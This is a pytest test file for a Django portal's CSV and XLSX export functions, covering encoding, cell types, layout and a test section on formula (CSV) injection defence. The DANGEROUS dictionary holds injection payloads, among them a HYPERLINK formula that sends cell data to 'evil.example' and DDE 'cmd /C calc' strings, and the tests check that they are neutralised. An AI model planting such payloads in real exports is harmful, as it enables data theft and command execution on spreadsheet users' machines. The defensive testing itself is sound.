"""champions_portal/exports.py: every CSV and XLSX download, read back as a spreadsheet program would."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.http import Http404
from openpyxl import load_workbook

from champions_portal.exports import Sheet, spreadsheet_response, workbook_response

HEADERS = ["Name", "Places", "Cost", "Date", "Registered at", "Notes"]
ROWS = [
    ["Bolton", 3, Decimal("1250.50"), datetime.date(2013, 10, 14), datetime.datetime(2013, 9, 2, 9, 30), None],
    ['Café – Wigan, "North"', 0, Decimal("0"), datetime.date(2014, 1, 7), datetime.datetime(2014, 1, 7, 17, 0), "x"],
]


def _response(fmt: str, rows=ROWS, **kwargs):
    kwargs = {"filename": "bolton-registrations", "title": "Registrations", "headers": HEADERS, **kwargs}
    return spreadsheet_response(fmt=fmt, rows=rows, **kwargs)


def _workbook(response):
    return load_workbook(io.BytesIO(response.content))


def test_it_downloads_a_csv_with_its_name_and_type():
    response = _response("csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="bolton-registrations.csv"'


def test_it_starts_the_csv_with_a_byte_order_mark_so_excel_reads_utf8():
    assert _response("csv").content.startswith("\ufeff".encode())


def test_it_writes_the_csv_headers_then_the_rows():
    text = _response("csv").content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0] == HEADERS
    assert lines[1] == ["Bolton", "3", "1250.50", "2013-10-14", "2013-09-02 09:30:00", ""]
    assert lines[2][0] == 'Café – Wigan, "North"'  # quoted, so the comma and quotes survive
    assert len(lines) == 3


def test_it_ends_csv_rows_with_crlf():
    assert _response("csv").content.decode("utf-8-sig").split("\r\n")[0] == ",".join(HEADERS)


def test_it_downloads_an_xlsx_with_its_name_and_type():
    response = _response("xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="bolton-registrations.xlsx"'


def test_it_writes_a_valid_xlsx_with_bold_headers_and_typed_cells():
    sheet = _workbook(_response("xlsx"))["Registrations"]
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert all(cell.font.bold for cell in sheet[1])
    name, places, cost, date, registered, notes = sheet[2]
    assert name.value == "Bolton" and name.data_type == "s"
    assert places.value == 3 and places.data_type == "n"
    assert cost.data_type == "n" and cost.value == pytest.approx(1250.5)
    assert date.is_date and date.value.date() == datetime.date(2013, 10, 14)
    assert registered.is_date and registered.value == datetime.datetime(2013, 9, 2, 9, 30)
    assert notes.value is None
    assert sheet.max_row == 3


def test_it_freezes_the_header_and_prints_it_on_every_page_in_landscape():
    sheet = _workbook(_response("xlsx"))["Registrations"]
    assert sheet.freeze_panes == "A2"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.fitToWidth == 1
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True


def test_it_sizes_columns_to_their_contents_within_limits():
    rows = [["x" * 200, "a"]]
    sheet = _workbook(_response("xlsx", rows=rows, headers=["Long", "B"]))["Registrations"]
    assert sheet.column_dimensions["A"].width == 60
    assert sheet.column_dimensions["B"].width == 10


def test_it_reads_rows_given_as_a_generator_once():
    rows = (row for row in ROWS)
    assert _workbook(_response("xlsx", rows=rows))["Registrations"].max_row == 3
    rows = (row for row in ROWS)
    assert len(_response("csv", rows=rows).content.decode("utf-8-sig").splitlines()) == 3


def test_it_cuts_a_sheet_title_to_excels_31_characters():
    title = "Workshops and seminars held by theme and quarter"
    assert _workbook(_response("xlsx", title=title)).sheetnames == [title[:31]]


def test_it_writes_a_sheet_per_table_in_an_xlsx_and_the_first_table_in_a_csv():
    sheets = [Sheet("Champions", ["Champion"], [["Hartlepool"]]), Sheet("Events", ["Event", "On"], [["Conf", 1]])]
    workbook = _workbook(workbook_response(fmt="xlsx", filename="tracker", sheets=sheets))
    assert workbook.sheetnames == ["Champions", "Events"]
    assert [c.value for c in workbook["Events"][2]] == ["Conf", 1]
    text = workbook_response(fmt="csv", filename="tracker", sheets=sheets).content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["Champion"], ["Hartlepool"]]


@pytest.mark.parametrize("fmt", ["pdf", "XLSX", "", "csv "])
def test_it_refuses_another_format_with_a_404(fmt):
    with pytest.raises(Http404):
        _response(fmt)


# --- Formula injection (OWASP CSV injection): text a spreadsheet would run is written as text ----------

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
# Each character a spreadsheet may take as the start of a formula, at the start of text someone typed.
DANGEROUS = {
    "=": FORMULA,
    "+": '+HYPERLINK("https://evil.example/","Click")',
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx_cells(response) -> list:
    return [cell for sheet in _workbook(response) for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", DANGEROUS.values(), ids=[repr(c) for c in DANGEROUS])
def test_it_prefixes_a_quote_to_csv_text_a_spreadsheet_would_run(text):
    rows = [[text, "Bolton", 3]]
    lines = _csv_rows(_response("csv", rows=rows, headers=["Name", "Town", "Places"]))
    assert lines[1] == ["'" + text, "Bolton", "3"]


@pytest.mark.parametrize("text", DANGEROUS.values(), ids=[repr(c) for c in DANGEROUS])
def test_it_writes_xlsx_text_a_spreadsheet_would_run_as_quoted_text_never_a_formula(text):
    rows = [[text, "Bolton", 3]]
    response = _response("xlsx", rows=rows, headers=["Name", "Town", "Places"])
    assert not [cell.coordinate for cell in _xlsx_cells(response) if cell.data_type == "f"]
    name = _workbook(response)["Registrations"]["A2"]
    # An XML reader turns a carriage return into a line feed: Excel reads it so too.
    assert name.value == ("'" + text).replace("\r", "\n") and name.data_type == "s"


def test_it_leaves_no_formula_in_the_xlsx_file_itself():
    response = _response("xlsx", rows=[[text] for text in DANGEROUS.values()], headers=["Name"])
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_it_neutralises_every_sheet_of_a_workbook_and_the_headers():
    sheets = [
        Sheet("Champions", ["=Champion"], [["Hartlepool"]]),
        Sheet("Events", ["Event", "On"], [[FORMULA, 1], ["@SUM(A1)", 2]]),
    ]
    workbook = _workbook(workbook_response(fmt="xlsx", filename="tracker", sheets=sheets))
    assert workbook["Champions"]["A1"].value == "'=Champion"
    assert [workbook["Events"][f"A{row}"].value for row in (2, 3)] == ["'" + FORMULA, "'@SUM(A1)"]
    assert all(cell.data_type != "f" for sheet in workbook for row in sheet.iter_rows() for cell in row)
    text = workbook_response(fmt="csv", filename="tracker", sheets=sheets).content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["'=Champion"], ["Hartlepool"]]


def test_it_leaves_text_alone_when_the_character_is_not_first():
    rows = [["a=b", "x-y+z", "name@example.com", " =1+1", "'=already quoted", "", "2013-10-14"]]
    headers = ["A", "B", "C", "D", "E", "F", "G"]
    assert _csv_rows(_response("csv", rows=rows, headers=headers))[1] == rows[0]
    sheet = _workbook(_response("xlsx", rows=rows, headers=headers))["Registrations"]
    assert [cell.value for cell in sheet[2]] == ["a=b", "x-y+z", "name@example.com", " =1+1", "'=already quoted"] + [
        None,
        "2013-10-14",
    ]


def test_it_writes_text_that_looks_like_an_error_code_as_text():
    sheet = _workbook(_response("xlsx", rows=[["#N/A", "#DIV/0!"]], headers=["A", "B"]))["Registrations"]
    assert [(cell.value, cell.data_type) for cell in sheet[2]] == [("#N/A", "s"), ("#DIV/0!", "s")]


def test_it_keeps_negative_numbers_dates_and_times_typed_and_unquoted():
    when = datetime.datetime(2013, 9, 2, 9, 30)
    rows = [[-3, Decimal("-1250.50"), -0.5, 0, datetime.date(2013, 10, 14), when, None, True]]
    headers = ["Int", "Decimal", "Float", "Zero", "Date", "Datetime", "None", "Bool"]
    assert _csv_rows(_response("csv", rows=rows, headers=headers))[1] == [
        "-3",
        "-1250.50",
        "-0.5",
        "0",
        "2013-10-14",
        "2013-09-02 09:30:00",
        "",
        "True",
    ]
    sheet = _workbook(_response("xlsx", rows=rows, headers=headers))["Registrations"]
    number, money, fraction, zero, date, moment, empty, flag = sheet[2]
    assert (number.value, number.data_type) == (-3, "n")
    assert money.data_type == "n" and money.value == pytest.approx(-1250.5)
    assert (fraction.value, fraction.data_type) == (-0.5, "n")
    assert (zero.value, zero.data_type) == (0, "n")
    assert date.is_date and date.value.date() == datetime.date(2013, 10, 14)
    assert moment.is_date and moment.value == when
    assert empty.value is None
    assert (flag.value, flag.data_type) == (True, "b")


def test_it_drops_control_characters_an_xlsx_cannot_hold_instead_of_failing():
    rows = [["Al\x07ex\x00 Parent", "Bolton\x1b", 3]]

    response = _response("xlsx", rows=rows, headers=["Name", "Town", "Places"])

    sheet = _workbook(response)["Registrations"]
    assert (sheet["A2"].value, sheet["B2"].value, sheet["C2"].value) == ("Alex Parent", "Bolton", 3)
